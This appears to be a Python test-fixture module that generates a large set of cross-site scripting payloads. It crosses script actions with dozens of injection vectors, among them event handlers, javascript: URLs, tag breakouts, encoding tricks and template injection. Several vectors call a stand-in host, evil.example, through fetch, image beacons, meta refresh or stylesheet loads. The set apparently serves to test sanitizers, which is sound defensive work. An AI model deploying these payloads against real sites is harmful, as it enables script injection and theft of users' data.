"""Strings that would run, fetch or break out on a page that let them."""

from __future__ import annotations

import itertools

ACTS = (
    "alert(1)",
    "window.pwned=1",
    "fetch('http://evil.example/')",
    "document.title='pwned'",
    "new Image().src='//evil.example'",
)
VECTORS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</ScRiPt ><sCrIpT>{}</sCrIpT>",
    "<!--<script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<form action='javascript:{}'><button autofocus onfocus={}>x</button></form>",
    "<base href='//evil.example/'><script src=x></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/{}'>",
    "<style>@import 'http://evil.example/{}';</style>",
    "</style><style>*{{background:url(http://evil.example/)}}</style>",
    "<div style='background:url(http://evil.example/)' onmouseover={}>",
    "<img src='http://evil.example/{}'>",
    "<img srcset='http://evil.example/ 1x'>",
    "![x](http://evil.example/{})",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</noscript><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>",
    "<x contenteditable onblur={}>",
    "' onmouseover='{}' '",
    '" autofocus onfocus="{}" "',
    "\u2028{}\u2029",
    "\\u003cscript>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "__proto__",
    "<scr\0ipt>{}</script>",
    "<script\x0c>{}</script>",
    "<img/src/onerror={}>",
    "<<script>{}//<</script>",
)
AROUND = ("{}", "x {} y", '"{}"', "`{}`", "\n{}\n", "</p>{}", "-->{}")
POISON = tuple(
    dict.fromkeys(
        around.format(vector.replace("{}", act).replace("{{", "{").replace("}}", "}"))
        for vector, act, around in itertools.product(VECTORS, ACTS, AROUND)
    )
)
